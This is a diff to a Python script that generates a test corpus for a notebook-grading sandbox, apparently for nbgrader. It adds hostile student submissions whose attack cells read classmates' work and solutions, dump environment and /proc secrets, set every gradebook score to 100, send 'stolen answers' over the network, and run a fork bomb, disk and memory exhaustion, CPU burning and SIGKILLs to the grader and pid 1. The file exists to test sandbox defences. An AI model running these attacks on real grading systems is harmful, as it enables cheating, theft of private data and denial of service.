@@ -3,8 +3,9 @@
 
     .venv/bin/python tests/grading_corpus/make_corpus.py
 
-writes ``source/grading_demo/grading_demo.ipynb`` (the instructor's notebook, with solutions and hidden tests)
-and ``submitted/<kind>/grading_demo/<file>`` (nbgrader's layout, one "student" per kind). Every submission
+writes ``source/grading_demo/grading_demo.ipynb`` (the instructor's notebook, with solutions and hidden tests),
+``submitted/<kind>/grading_demo/<file>`` (nbgrader's layout, one "student" per kind) and
+``hostile/<kind>/grading_demo/<file>`` (the attacks on the sandbox, graded only inside it). Every submission
 is derived from the release nbgrader generates, as a student's file would be. The expected verdicts live
 in the test; ``README.md`` describes the kinds. The test checks that this script reproduces the committed
 files, so edit the script, not the files.
@@ -146,11 +147,11 @@ def _cell(nb, gid: str) -> dict:
 
 HOSTILE = '''
 # Tries to reach outside its own folder: the course's gradebook and source (paths in
-# $GRADING_CORPUS_TARGETS, as if the student knew them), its own unit's gradebook and source, the library
+# $COURSE_CORPUS_TARGETS, as if the student knew them), its own unit's gradebook and source, the library
 # the tests compare against, a sqlite connection, and a shell. Every attempt must be refused.
 import json, os, pathlib, sqlite3, subprocess
 import course_lib
-targets = json.loads(os.environ.get("GRADING_CORPUS_TARGETS", "[]"))
+targets = json.loads(os.environ.get("COURSE_CORPUS_TARGETS", "[]"))
 targets += ["../../../gradebook.db", str(pathlib.Path(course_lib.__file__).parent / "grading" / "_tampered.txt")]
 for target in targets:
     try:
@@ -259,6 +260,155 @@ def submissions(release: nbformat.NotebookNode, source: nbformat.NotebookNode) -
     return out
 
 
+# ---------------------------------------------------------------------------------------- the hostile class
+# Each attack is one extra cell after the imports of an otherwise correct notebook. It learns where everything
+# is from $COURSE_HOSTILE_TARGETS (a JSON object the test sets: the worst case, a student who knows the paths):
+# "classmate" (a classmate's submitted notebook), "solutions" (the instructor's source notebook), "gradebook",
+# "server" ([host, port] of a TCP server the test runs), "grader_pid" (the grading process).
+_TARGETS = "import json, os\nT = json.loads(os.environ.get('COURSE_HOSTILE_TARGETS', '{}'))\n"
+ATTACKS = {
+    "reads_classmate": _TARGETS + """
+classmate = T.get("classmate", "")
+try:
+    print(open(classmate).read())
+except OSError as exc:
+    print("refused:", type(exc).__name__)
+try:
+    print(os.listdir(os.path.dirname(os.path.dirname(classmate))))
+except OSError as exc:
+    print("refused:", type(exc).__name__)
+""",
+    "reads_solutions": _TARGETS + """
+for path in [T.get("solutions", ""), "../../../source/grading_demo/grading_demo.ipynb", "/proc/1/environ"]:
+    try:
+        print(open(path).read())
+    except OSError as exc:
+        print("refused:", type(exc).__name__)
+print(dict(os.environ))
+""",
+    "writes_gradebook": _TARGETS + """
+import sqlite3
+try:
+    db = sqlite3.connect(T.get("gradebook", "gradebook.db"))
+    db.execute("UPDATE grade SET manual_score = 100")
+    db.commit()
+    print("changed the gradebook")
+except Exception as exc:
+    print("refused:", type(exc).__name__, exc)
+""",
+    "network": _TARGETS + """
+import socket
+for address in [tuple(T.get("server", ("127.0.0.1", 9))), ("1.1.1.1", 53), ("example.com", 80)]:
+    try:
+        socket.create_connection(address, timeout=3).sendall(b"stolen answers")
+        print("connected to", address)
+    except OSError as exc:
+        print("no connection:", type(exc).__name__)
+""",
+    "ctypes_read": _TARGETS + """
+import ctypes
+libc = ctypes.CDLL(None, use_errno=True)
+for path in [T.get("classmate", ""), T.get("solutions", ""), T.get("gradebook", "")]:
+    fd = libc.open(path.encode(), 0)
+    if fd < 0:
+        print("open failed, errno", ctypes.get_errno())
+        continue
+    buffer = ctypes.create_string_buffer(1 << 20)
+    n = libc.read(fd, buffer, 1 << 20)
+    print(buffer.raw[:max(n, 0)].decode("utf-8", "replace"))
+""",
+    "fork_bomb": """
+import os, time
+children = []
+try:
+    while len(children) < 100_000:
+        pid = os.fork()
+        if pid == 0:
+            time.sleep(60)
+            os._exit(0)
+        children.append(pid)
+finally:
+    print("forked", len(children), "children")
+    for pid in children:
+        os.kill(pid, 9)
+        os.waitpid(pid, 0)
+""",
+    "fills_disk": """
+import os
+chunk = b"x" * (1 << 20)
+written = 0
+try:
+    for i in range(100_000):
+        with open(f"filler-{i}.bin", "wb") as fh:
+            for _ in range(8):
+                fh.write(chunk)
+                written += len(chunk)
+finally:
+    print("wrote", written >> 20, "MiB")
+""",
+    "eats_memory": """
+import numpy as np
+hoard = []
+try:
+    for _ in range(400):
+        hoard.append(np.ones(100 * (1 << 20) // 8))  # 100 MiB, touched
+finally:
+    print("held", len(hoard) * 100, "MiB")
+    del hoard
+""",
+    "kills_parent": _TARGETS + """
+import signal
+for pid in [os.getppid(), T.get("grader_pid", 0), 1]:
+    try:
+        os.kill(pid, signal.SIGKILL)
+        print("sent SIGKILL to", pid)
+    except OSError as exc:
+        print("could not kill", pid, type(exc).__name__)
+""",
+    "sleeps_forever": """
+import time
+time.sleep(10 ** 9)
+""",
+    "prints_gigabyte": """
+for i in range(100_000_000):
+    print("0123456789")  # 11 bytes a line: 1.1 GB in all
+""",
+    "burns_cpu": """
+import signal
+signal.signal(signal.SIGINT, signal.SIG_IGN)  # the cell limit's interrupt cannot stop it: the CPU limit does
+while True:
+    pass
+""",
+}
+CLASSMATE_SECRET = "classmate-private-7f3a91"
+
+
+def hostile(release: nbformat.NotebookNode, source: nbformat.NotebookNode) -> dict[str, tuple[str, bytes]]:
+    """kind -> (file name, bytes): one correct notebook per attack, plus the classmate it targets and a bystander."""
+    answers = _answers(source)
+
+    def solved():
+        nb = nbformat.from_dict(json.loads(nbformat.writes(release)))
+        for gid, text in answers.items():
+            _cell(nb, gid).source = text
+        return nb
+
+    def dump(nb) -> bytes:
+        return (nbformat.writes(nb) + "\n").encode()
+
+    name = f"{ASSIGNMENT}.ipynb"
+    out = {}
+    nb = solved()
+    _cell(nb, "relu").source = f"# {CLASSMATE_SECRET}: my own work, do not copy\n" + answers["relu"]
+    out["classmate"] = (name, dump(nb))
+    out["bystander"] = (name, dump(solved()))
+    for kind, attack in ATTACKS.items():
+        nb = solved()
+        nb.cells.insert(nb.cells.index(_cell(nb, "relu")), _code(f"attack-{kind.replace('_', '-')}", attack.strip("\n")))
+        out[kind] = (name, dump(nb))
+    return out
+
+
 def build(dest: Path = HERE, template: bytes | None = None) -> dict[str, tuple[str, bytes]]:
     """Write the source notebook and every submission under ``dest``; return the submissions.
 
@@ -276,11 +426,14 @@ def build(dest: Path = HERE, template: bytes | None = None) -> dict[str, tuple[s
     with zipfile.ZipFile(io.BytesIO(template)) as zf:
         release = nbformat.reads(zf.read(f"release/{ASSIGNMENT}/{ASSIGNMENT}.ipynb").decode(), as_version=4)
     corpus = submissions(release, source)
-    shutil.rmtree(dest / "submitted", ignore_errors=True)
-    for kind, (filename, data) in corpus.items():
-        folder = dest / "submitted" / kind / ASSIGNMENT
-        folder.mkdir(parents=True)
-        (folder / filename).write_bytes(data)
+    for where, kinds in (("submitted", corpus), ("hostile", hostile(release, source))):
+        shutil.rmtree(dest / where, ignore_errors=True)
+        for kind, (filename, data) in kinds.items():
+            folder = dest / where / kind / ASSIGNMENT
+            folder.mkdir(parents=True)
+            (folder / filename).write_bytes(data)
+        if where == "hostile":
+            corpus.update({f"hostile/{k}": v for k, v in kinds.items()})
     return corpus
 
 
